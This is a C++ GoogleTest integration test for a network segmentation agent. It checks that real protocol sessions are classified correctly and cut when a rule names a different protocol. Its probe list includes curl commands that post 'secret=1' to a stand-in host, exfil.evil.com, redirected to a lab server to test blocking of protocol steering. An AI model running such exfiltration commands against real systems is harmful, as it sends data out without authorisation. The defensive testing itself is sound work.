// Real servers and real clients through bulkheadd, one protocol at a time: every protocol that
// bulkhead claims is proven (dpi/proven_protocols) is served by the program Debian ships for it.
// Client A's rule names exactly that protocol on its port: its session must complete and be
// judged as the protocol (no false violation). Client B's rule on the same port names another
// protocol: the same session must be cut, the violation must name the protocol really found,
// and the server's own capture tells how many application bytes reached it before the cut.
#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <functional>
#include <iomanip>
#include <map>
#include <memory>
#include <set>
#include <sstream>
#include <thread>

#include "dataplane/packet_parser.h"
#include "dataplane/pcap_reader.h"
#include "dpi/proven_protocols.h"
#include "tests/integration/lab.h"
#include "tests/integration/live_agent.h"
#include "tests/integration/protocol_servers.h"

namespace bulkhead {
namespace {

using nlohmann::json;
using testing::Host;
using testing::Lab;

constexpr const char* ClientAIp = "10.214.0.11";
constexpr const char* ClientBIp = "10.214.0.12";
constexpr const char* ClientCIp = "10.214.0.13";  // probes: other protocols to the servers
constexpr const char* ClientDIp = "10.214.0.14";  // sessions nDPI 4.2 cannot classify
constexpr const char* ServerIp = "10.214.0.20";

struct Scenario {
  std::string name;      // a label for the table ("DNS/UDP")
  std::string protocol;  // what a rule names and the session must be judged as
  // nDPI names it from the client's first bytes: a denied session must deliver none of them.
  bool clientDecides = false;
  uint16_t port = 0;
  bool udp = false;
  std::string otherProtocol;  // what client B's rule names on the same port
  std::function<void(testing::ProtocolServers&)> start;
  // The client's command, "{server}" standing for the server's address, "{key}" for the SSH key.
  std::vector<std::string> client;
  std::string expect;  // in the client's output when the session completed
};

// A TLS client that writes its ClientHello in two segments (TCP_NODELAY, two sends), then
// finishes the handshake and fetches s_server's page: argv[1] is the server, argv[2] its port.
constexpr const char* SplitHelloClient = R"(
import socket, ssl, sys
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname="api.matrix.test")
sock = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
sock.settimeout(5)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
def pump(first=False):
    data = outgoing.read()
    if first:
        sock.sendall(data[:100])
        sock.sendall(data[100:])
    elif data:
        sock.sendall(data)
first = True
while True:
    try:
        tls.do_handshake()
        break
    except ssl.SSLWantReadError:
        pump(first)
        first = False
        data = sock.recv(65536)
        if not data:
            sys.exit("closed during the handshake")
        incoming.write(data)
pump()
tls.write(b"GET / HTTP/1.0\r\n\r\n")
pump()
reply = b""
while b"\r\n\r\n" not in reply:
    try:
        reply += tls.read(65536)
    except ssl.SSLWantReadError:
        data = sock.recv(65536)
        if not data:
            break
        incoming.write(data)
print(reply.split(b"\r\n")[0].decode())
)";

std::vector<Scenario> scenarios() {
  const std::vector<std::string> dig = {"dig",      "+short",    "+time=2",
                                        "+tries=1", "@{server}", "api.matrix.test"};
  std::vector<std::string> digTcp = dig;
  digTcp.insert(digTcp.begin() + 1, "+tcp");
  return {
      {"HTTP",
       "HTTP",
       true,
       80,
       false,
       "TLS",
       [](auto& s) { s.http(80); },
       {"curl", "-s", "-m", "5", "http://{server}/"},
       "hello from nginx"},
      {"TLS",
       "TLS",
       true,
       443,
       false,
       "HTTP",
       [](auto& s) { s.tls(443, "api.matrix.test"); },
       {"curl", "-sk", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "--resolve",
        "api.matrix.test:443:{server}", "https://api.matrix.test/"},
       "200"},
      // OpenSSL's own ClientHello (Python's ssl module), sent in two segments: nDPI names TLS
      // only from the second, so the first is what holding keeps from a denied server.
      {"TLS split",
       "TLS",
       true,
       8443,
       false,
       "HTTP",
       [](auto& s) { s.tls(8443, "api.matrix.test"); },
       {"/usr/bin/python3", "-c", SplitHelloClient, "{server}", "8443"},
       "HTTP/1.0 200 ok"},
      {"DNS/UDP", "DNS", true, 53, true, "HTTP", [](auto& s) { s.dns(53); }, dig, "10.9.9.9"},
      {"DNS/TCP", "DNS", true, 53, false, "HTTP", [](auto&) {}, digTcp, "10.9.9.9"},
      {"SSH",
       "SSH",
       false,
       22,
       false,
       "HTTP",
       [](auto& s) { s.ssh(22); },
       {"ssh", "-i", "{key}", "-o", "StrictHostKeyChecking=no", "-o",
        "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
        "root@{server}", "echo", "session-ok"},
       "session-ok"},
      {"PostgreSQL",
       "PostgreSQL",
       false,
       5432,
       false,
       "HTTP",
       [](auto& s) { s.postgres(5432); },
       {"env", "PGCONNECT_TIMEOUT=5", "psql", "-h", "{server}", "-U", "postgres", "-At", "-c",
        "select 'session-ok'"},
       "session-ok"},
      {"MySQL",
       "MySQL",
       false,
       3306,
       false,
       "HTTP",
       [](auto& s) { s.mariadb(3306); },
       {"mariadb", "-h", "{server}", "-u", "root", "--connect-timeout=5", "-N", "-e",
        "select 'session-ok'"},
       "session-ok"},
      {"Redis",
       "Redis",
       false,
       6379,
       false,
       "HTTP",
       [](auto& s) { s.redis(6379); },
       {"redis-cli", "-h", "{server}", "SET", "matrix", "session-ok"},
       "OK"},
      {"Memcached",
       "Memcached",
       false,
       11211,
       false,
       "HTTP",
       [](auto& s) { s.memcached(11211); },
       {"bash", "-c",
        "cd \"$(mktemp -d)\" && echo session-ok > matrix && memccp --servers={server}:11211 "
        "matrix && memcstat --servers={server}:11211 | grep -q pid && echo stored; "
        "rm -rf \"$PWD\""},
       "stored"},
      {"MQTT",
       "MQTT",
       false,
       1883,
       false,
       "HTTP",
       [](auto& s) { s.mqtt(1883); },
       {"bash", "-c", "mosquitto_pub -h {server} -t matrix -m session-ok && echo published"},
       "published"},
      {"SMTP",
       "SMTP",
       false,
       25,
       false,
       "HTTP",
       [](auto& s) { s.smtp(25); },
       {"swaks", "--server", "{server}", "--to", "root@matrix.test", "--from", "client@matrix.test",
        "--timeout", "5"},
       "250 2.0.0"},
      {"AMQP",
       "AMQP",
       false,
       5672,
       false,
       "HTTP",
       [](auto& s) { s.amqp(5672); },
       {"amqp-declare-queue", "-u", "amqp://guest:guest@{server}:5672/%2f", "-q", "matrix"},
       "matrix"},
  };
}

// What a client that wants another protocol through sends to a server's port, where its rule
// allows only the server's protocol: a sample of the steering class, live.
struct Probe {
  std::string name;
  uint16_t port;
  std::string judged;  // what the violation must name: what the bytes really are
  std::vector<std::string> client;
  bool zeroBytes = true;  // nDPI decides from the client's first bytes: none may arrive
};

std::vector<Probe> probes() {
  const std::vector<std::string> post = {
      "curl", "-s", "-m", "3", "-H", "Host: exfil.evil.com", "--data", "secret=1"};
  const auto http = [&](uint16_t port) {
    auto argv = post;
    argv.push_back("http://{server}:" + std::to_string(port) + "/upload");
    return argv;
  };
  const auto https = [](uint16_t port) {
    return std::vector<std::string>{"curl",
                                    "-sk",
                                    "-m",
                                    "3",
                                    "--resolve",
                                    "exfil.evil.com:" + std::to_string(port) + ":{server}",
                                    "https://exfil.evil.com:" + std::to_string(port) + "/"};
  };
  return {
      {"HTTP to PostgreSQL", 5432, "HTTP", http(5432)},
      {"HTTP to Redis", 6379, "HTTP", http(6379)},
      {"HTTP to memcached", 11211, "HTTP", http(11211)},
      {"TLS to PostgreSQL", 5432, "TLS", https(5432)},
      {"TLS to MQTT", 1883, "TLS", https(1883)},
      {"SSH to PostgreSQL",
       5432,
       "SSH",
       {"ssh", "-p", "5432", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
        "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "root@{server}", "true"}},
      // nDPI 4.2 reads DNS only on its own ports: elsewhere it is Unknown, and what passes while
      // nDPI tries is reported, not prevented.
      {"DNS to AMQP",
       5672,
       "Unknown",
       {"dig", "+tcp", "+time=2", "+tries=1", "-p", "5672", "@{server}", "api.matrix.test"},
       false},
  };
}

// Real sessions of proven protocols that nDPI 4.2 does not classify (dpi/proven_protocols'
// limits): under a rule naming their protocol they pass while nDPI tries, and are reported as
// denied when the flow ends. The test keeps the documented limits true.
struct Limit {
  std::string name;
  uint16_t port;
  std::vector<std::string> client;
  std::string expect;
};

std::vector<Limit> limits() {
  return {
      {"Redis, a GET first", 6379, {"redis-cli", "-h", "{server}", "GET", "matrix"}, "session-ok"},
      {"memcached, a single get",
       11211,
       {"memccat", "--servers={server}:11211", "matrix"},
       "session-ok"},
      {"PostgreSQL without SSLRequest",
       5432,
       {"env", "PGSSLMODE=disable", "PGCONNECT_TIMEOUT=5", "psql", "-h", "{server}", "-U",
        "postgres", "-At", "-c", "select 'no-ssl'"},
       "no-ssl"},
  };
}

std::string substitute(std::string text, const std::string& key) {
  for (const auto& [from, to] : {std::pair<std::string, std::string>{"{server}", ServerIp},
                                 std::pair<std::string, std::string>{"{key}", key}}) {
    for (size_t at = text.find(from); at != std::string::npos; at = text.find(from, at)) {
      text.replace(at, from.size(), to);
    }
  }
  return text;
}

// Client A may use each scenario's protocol on its port; client B only another protocol there.
std::string policyFor(const std::vector<Scenario>& all) {
  std::string yaml =
      "apiVersion: bulkhead.io/v1\nkind: SegmentationPolicy\nmetadata: {name: servers}\n"
      "spec:\n  endpointSelector: {matchLabels: {app: server}}\n  ingress:\n";
  for (const char* client : {"client-a", "client-b"}) {
    yaml += "    - fromEndpoints: [{matchLabels: {app: " + std::string(client) +
            "}}]\n"
            "      toPorts:\n";
    std::set<std::string> seen;
    for (const auto& s : all) {
      const std::string protocol = std::string(client) == "client-a" ? s.protocol : s.otherProtocol;
      const std::string key = std::to_string(s.port) + (s.udp ? "/UDP" : "/TCP") + protocol;
      if (!seen.insert(key).second) {
        continue;
      }
      yaml += "        - ports: [{port: " + std::to_string(s.port) +
              ", protocol: " + (s.udp ? "UDP" : "TCP") + "}]\n          l7: {protocols: [" +
              protocol + "]}\n";
    }
  }
  return yaml;
}

// Application bytes that reached the server from `client` on `port`, from the server's own
// capture: TCP counts each byte of the stream once (retransmissions are not new bytes).
uint64_t bytesDelivered(const std::string& capture, const std::string& client, uint16_t port,
                        bool udp) {
  std::string error;
  auto reader = dataplane::PcapReader::open(capture, &error);
  if (!reader) {
    ADD_FAILURE() << error;
    return 0;
  }
  const auto from = rules::IpAddress::parse(client);
  uint64_t total = 0;
  std::map<uint16_t, std::pair<uint32_t, uint32_t>> streams;  // client port -> [first, end) seq
  dataplane::CapturedFrame frame;
  while (reader->next(frame) == dataplane::PcapReader::Status::Frame) {
    const auto meta =
        dataplane::parsePacket(frame.frame.data(), static_cast<uint32_t>(frame.frame.size()));
    if (meta.status != dataplane::ParseStatus::Ok || !meta.hasL4 || meta.srcIp != *from ||
        meta.dstPort != port || meta.payloadLength == 0 ||
        meta.ipProtocol != (udp ? dataplane::ip_protocol::UDP : dataplane::ip_protocol::TCP)) {
      continue;
    }
    if (udp) {
      total += meta.payloadLength;
      continue;
    }
    uint32_t seq = 0;
    std::memcpy(&seq, frame.frame.data() + meta.l4Offset + 4, 4);
    seq = ntohl(seq);
    auto [it, fresh] = streams.try_emplace(meta.srcPort, seq, seq);
    auto& [first, end] = it->second;
    first = std::min(first, seq);
    end = std::max(end, seq + meta.payloadLength);
    (void)fresh;
  }
  for (const auto& [clientPort, range] : streams) {
    total += range.second - range.first;
  }
  return total;
}

class ProtocolMatrix : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!testing::haveRoot()) {
      GTEST_SKIP() << "needs root: runs servers in network namespaces behind a DPDK agent";
    }
    if (const auto missing = testing::ProtocolServers::missingProgram(); !missing.empty()) {
      GTEST_SKIP() << "needs '" << missing << "' (scripts/setup.sh installs the servers and "
                   << "clients of the matrix)";
    }
    lab_ = std::make_unique<Lab>();
    clientA_ = &lab_->addHost("clienta", std::string(ClientAIp) + "/24");
    clientB_ = &lab_->addHost("clientb", std::string(ClientBIp) + "/24");
    clientC_ = &lab_->addHost("clientc", std::string(ClientCIp) + "/24");
    clientD_ = &lab_->addHost("clientd", std::string(ClientDIp) + "/24");
    server_ = &lab_->addHost("server", std::string(ServerIp) + "/24");
    agent_ = std::make_unique<testing::LiveAgent>(*lab_);
  }

  void TearDown() override {
    if (agent_ != nullptr) {
      const auto code = agent_->stop();
      if (code) {
        EXPECT_EQ(*code, 0) << agent_->log();
      }
    }
  }

  std::unique_ptr<Lab> lab_;
  Host* clientA_ = nullptr;
  Host* clientB_ = nullptr;
  Host* clientC_ = nullptr;
  Host* clientD_ = nullptr;
  Host* server_ = nullptr;
  std::unique_ptr<testing::LiveAgent> agent_;
};

TEST_F(ProtocolMatrix, RealSessionsAreJudgedAsTheirProtocolAndCutUnderAnother) {
  const auto all = scenarios();
  // The matrix proves exactly what dpi/proven_protocols claims, no more and no less.
  std::set<std::string> claimed;
  for (const auto& proven : dpi::provenProtocols()) {
    claimed.insert(std::string(proven.name));
  }
  std::set<std::string> covered;
  for (const auto& s : all) {
    covered.insert(s.protocol);
  }
  EXPECT_EQ(covered, claimed);

  testing::ProtocolServers servers(*lab_, *server_);
  for (const auto& s : all) {
    ASSERT_NO_THROW(s.start(servers)) << s.name;
  }
  std::string why;
  ASSERT_TRUE(agent_->start(policyFor(all),
                            {{clientA_, {{"app", "client-a"}}},
                             {clientB_, {{"app", "client-b"}}},
                             // C and D have A's rules: each port allows only its own protocol.
                             {clientC_, {{"app", "client-a"}, {"role", "prober"}}},
                             {clientD_, {{"app", "client-a"}, {"role", "limits"}}},
                             {server_, {{"app", "server"}}}},
                            &why))
      << why;
  const std::string capture = lab_->dir().file("server.pcap");
  auto& tcpdump = lab_->spawn(
      server_, {"tcpdump", "-i", "eth0", "-n", "-s", "0", "-U", "-w", capture, "tcp or udp"},
      "tcpdump.log");
  ASSERT_TRUE(tcpdump.waitForLog("listening on", 10)) << tcpdump.log();

  struct Outcome {
    std::string judged;
    bool completed = false;
    bool cut = false;
    std::string deniedAs;
    uint64_t bytesWhenDenied = 0;
  };
  std::map<std::string, Outcome> outcomes;
  for (const auto& s : all) {
    std::vector<std::string> argv;
    for (const auto& arg : s.client) {
      argv.push_back(substitute(arg, servers.sshClientKey()));
    }
    Outcome& outcome = outcomes[s.name];
    const auto allowed = lab_->exec(*clientA_, argv, 20);
    outcome.completed = allowed.exitCode == 0 && allowed.out.find(s.expect) != std::string::npos;
    EXPECT_TRUE(outcome.completed) << s.name << " under a rule allowing " << s.protocol << ": exit "
                                   << allowed.exitCode << "\n"
                                   << allowed.out << allowed.err;
    for (const auto& flow : agent_->flows()) {
      if (flow["src"]["endpoint"] == "clienta" && flow["dst"]["port"] == s.port &&
          flow["l4"] == (s.udp ? "UDP" : "TCP")) {
        outcome.judged = flow.value("protocol", "");
        EXPECT_EQ(outcome.judged, s.protocol) << s.name << ": " << flow.dump();
        EXPECT_EQ(flow["verdict"], "allow") << s.name << ": " << flow.dump();
        break;
      }
    }
    EXPECT_FALSE(agent_->violation(
        [&](const json& v) {
          return v["src"]["endpoint"] == "clienta" && v["dst"]["port"] == s.port;
        },
        0))
        << s.name << ": a false violation";

    const auto denied = lab_->exec(*clientB_, argv, 20);
    outcome.cut = denied.exitCode != 0 || denied.out.find(s.expect) == std::string::npos;
    EXPECT_TRUE(outcome.cut) << s.name << " under a rule allowing only " << s.otherProtocol
                             << " went through:\n"
                             << denied.out;
    const auto line = agent_->violation([&](const json& v) {
      return v["src"]["endpoint"] == "clientb" && v["dst"]["port"] == s.port &&
             v["l4"] == (s.udp ? "UDP" : "TCP");
    });
    ASSERT_TRUE(line) << s.name << ": no violation for client B\n" << agent_->log();
    outcome.deniedAs = line->value("protocol", "");
    EXPECT_EQ(outcome.deniedAs, s.protocol) << s.name << ": " << line->dump();
    EXPECT_EQ((*line)["action"], "drop");
  }
  // The steering class, live: other protocols sent by C to ports whose rule allows only the
  // server's own protocol.
  const auto sample = probes();
  std::map<std::string, std::string> probedAs;
  for (const auto& probe : sample) {
    std::vector<std::string> argv;
    for (const auto& arg : probe.client) {
      argv.push_back(substitute(arg, servers.sshClientKey()));
    }
    lab_->exec(*clientC_, argv, 15);
    const auto line = agent_->violation([&](const json& v) {
      return v["src"]["endpoint"] == "clientc" && v["dst"]["port"] == probe.port &&
             v.value("protocol", "") == probe.judged;
    });
    ASSERT_TRUE(line) << probe.name << ": no violation naming " << probe.judged << "\n"
                      << [&] {
                           std::string lines;
                           for (const auto& v : agent_->violations()) {
                             lines += v.dump() + "\n";
                           }
                           return lines;
                         }();
    probedAs[probe.name] = line->value("protocol", "");
  }

  // What nDPI 4.2 cannot classify of the proven protocols, from D.
  std::map<std::string, bool> limitCompleted;
  for (const auto& limit : limits()) {
    std::vector<std::string> argv;
    for (const auto& arg : limit.client) {
      argv.push_back(substitute(arg, servers.sshClientKey()));
    }
    const auto result = lab_->exec(*clientD_, argv, 20);
    limitCompleted[limit.name] =
        result.exitCode == 0 && result.out.find(limit.expect) != std::string::npos;
    EXPECT_TRUE(limitCompleted[limit.name]) << limit.name << ":\n" << result.out << result.err;
    const auto line = agent_->violation([&](const json& v) {
      return v["src"]["endpoint"] == "clientd" && v["dst"]["port"] == limit.port;
    });
    ASSERT_TRUE(line) << limit.name << ": judged as its protocol after all? Update the limits in "
                      << "dpi/proven_protocols.cc and docs/policy.md";
    EXPECT_EQ(line->value("protocol", ""), "Unknown") << line->dump();
  }

  // Everything the flows passed while classifying has reached the server by now.
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  tcpdump.stop(5);
  if (const char* keep = std::getenv("BULKHEAD_MATRIX_CAPTURE")) {
    std::filesystem::copy_file(capture, keep, std::filesystem::copy_options::overwrite_existing);
  }
  for (const auto& s : all) {
    outcomes[s.name].bytesWhenDenied = bytesDelivered(capture, ClientBIp, s.port, s.udp);
    if (s.clientDecides) {
      EXPECT_EQ(outcomes[s.name].bytesWhenDenied, 0u)
          << s.name
          << ": nDPI decides from the client's first bytes, so none may reach a "
             "server whose rule refuses the protocol";
    }
  }

  std::map<std::string, uint64_t> probeBytes;
  for (const auto& probe : sample) {
    // One probe per port and transport carries its own bytes only where no other probe shares
    // the port: count per port, then expect zero wherever every probe there should deliver none.
    probeBytes[probe.name] = bytesDelivered(capture, ClientCIp, probe.port, false);
  }
  for (const auto& probe : sample) {
    bool allZero = true;
    for (const auto& other : sample) {
      allZero = allZero && (other.port != probe.port || other.zeroBytes);
    }
    if (allZero) {
      EXPECT_EQ(probeBytes[probe.name], 0u) << probe.name;
    }
  }

  std::ostringstream table;
  table << std::left << std::setw(12) << "protocol" << std::setw(14) << "judged as" << std::setw(11)
        << "completed" << std::setw(13) << "denied as"
        << "bytes delivered when denied\n";
  for (const auto& s : all) {
    const Outcome& o = outcomes[s.name];
    table << std::setw(12) << s.name << std::setw(14) << o.judged << std::setw(11)
          << (o.completed ? "yes" : "NO") << std::setw(13) << o.deniedAs << o.bytesWhenDenied
          << "\n";
  }
  std::cout << "protocol matrix:\n" << table.str();
  std::ostringstream probeTable;
  for (const auto& probe : sample) {
    probeTable << "  " << std::setw(22) << probe.name << " judged as " << std::setw(8)
               << probedAs[probe.name] << " bytes at the server on port " << probe.port << ": "
               << probeBytes[probe.name] << "\n";
  }
  std::cout << "steering sample (live):\n" << probeTable.str();
  std::cout << "limits (judged Unknown, documented):\n";
  for (const auto& limit : limits()) {
    std::cout << "  " << limit.name << ": session "
              << (limitCompleted[limit.name] ? "completed" : "failed") << "\n";
  }
}

}  // namespace
}  // namespace bulkhead
